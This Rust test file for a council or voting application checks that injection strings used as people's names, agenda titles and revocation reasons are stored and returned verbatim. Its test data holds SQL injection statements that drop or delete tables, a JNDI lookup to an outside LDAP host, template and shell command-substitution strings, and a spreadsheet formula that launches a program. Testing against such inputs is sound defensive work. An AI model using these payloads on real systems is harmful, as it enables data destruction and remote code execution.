//! Texts that mean something to a database, a template or a spreadsheet: here they are only text, whichever store keeps them.

use crate::floor::{Floor, recorded};
use crate::hall::{Hall, LIMIT, verified_export};
use crate::plain_http::get;
use crate::support::place::Place;
use dienhong::chamber::agenda::ItemKind;
use dienhong::chamber::command::{Command, NewItem};
use dienhong::chamber::ids::PersonId;
use dienhong::chamber::roll::{Office, Person};
use dienhong::client::when;
use serde_json::Value;

const TEXTS: [&str; 12] = [
    "Robert'); DROP TABLE entry; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "'; DELETE FROM vote WHERE 1=1; --",
    "a'; SELECT pg_sleep(60); --",
    "$1 ?1 :name @name %s {0}",
    "\\'; UPDATE ballot SET state = 'open'; --",
    "E'\\x27' || chr(39) /* x */",
    "${jndi:ldap://x.example/a} {{7*7}} <%= 7*7 %>",
    "`id` $(id) | id & id > x",
    "=cmd|' /C calc'!A0",
    "% _ [a-z]* LIKE 'p%'",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn statements_of_a_database_are_only_text() {
    for place in [Some(Place::sqlite()), Place::postgres().await].into_iter().flatten() {
        let mut hall = Hall::open(place, "generic", 2).await;
        let people: Vec<Person> = TEXTS.iter().enumerate().map(|(n, text)| person(n, text)).collect();
        hall.add(&people).await;
        let floor = Floor::ready(&hall, 0, 2).await;
        let items = TEXTS.iter().enumerate().map(|(n, text)| item(n, text)).collect();
        recorded(&floor.secretary, Command::add_items(items)).await;
        for text in TEXTS {
            let order = Command::RevokeDevice { person: floor.delegates[1].person().clone(), reason: text.to_owned() };
            recorded(&floor.secretary, order).await;
            hall.enrol("p2").await;
        }
        shown(&hall).await;
        let kept = hall.store().look("SELECT title FROM agenda_item ORDER BY title").await;
        let mut titles: Vec<String> = TEXTS.map(str::to_owned).into();
        titles.sort();
        assert!(titles.iter().all(|title| kept.contains(title)), "{kept:?}");
        assert_eq!(kept.len(), TEXTS.len());
        drop(floor);
        hall.stop().await;
        hall.start().await;
        shown(&hall).await;
        hall.stop().await;
        verified_export(&hall.place(), &hall.path("record.tar")).await;
        hall.close().await;
    }
}

/// As names and titles they come back to every page, letter for letter.
async fn shown(hall: &Hall) {
    let endpoint = hall.endpoint();
    let page = crate::hall::watch_as(&endpoint, dienhong::wire::frames::Page::Public).await;
    let council = when(&page.views().council, LIMIT, |council| council.agenda.len() == TEXTS.len()).await.expect("all");
    assert_eq!(council.agenda.iter().map(|item| item.title.as_str()).collect::<Vec<_>>(), TEXTS);
    let roll: Value = get(&endpoint, "api/view/roll").await.json();
    let roll = roll.to_string();
    for text in TEXTS {
        let name = serde_json::to_string(text).expect("text");
        assert!(roll.contains(&name), "{name} is not on the roll: {roll}");
    }
}

fn person(n: usize, name: &str) -> Person {
    Person {
        id: PersonId::parse(format!("sql{n}")).expect("an id"),
        name: name.to_owned(),
        seat: None,
        group: name.to_owned(),
        offices: vec![Office::Guest],
    }
}

fn item(n: usize, title: &str) -> NewItem {
    NewItem { presenter: Some(title.to_owned()), ..NewItem::new((n + 1).to_string(), ItemKind::Report, title) }
}
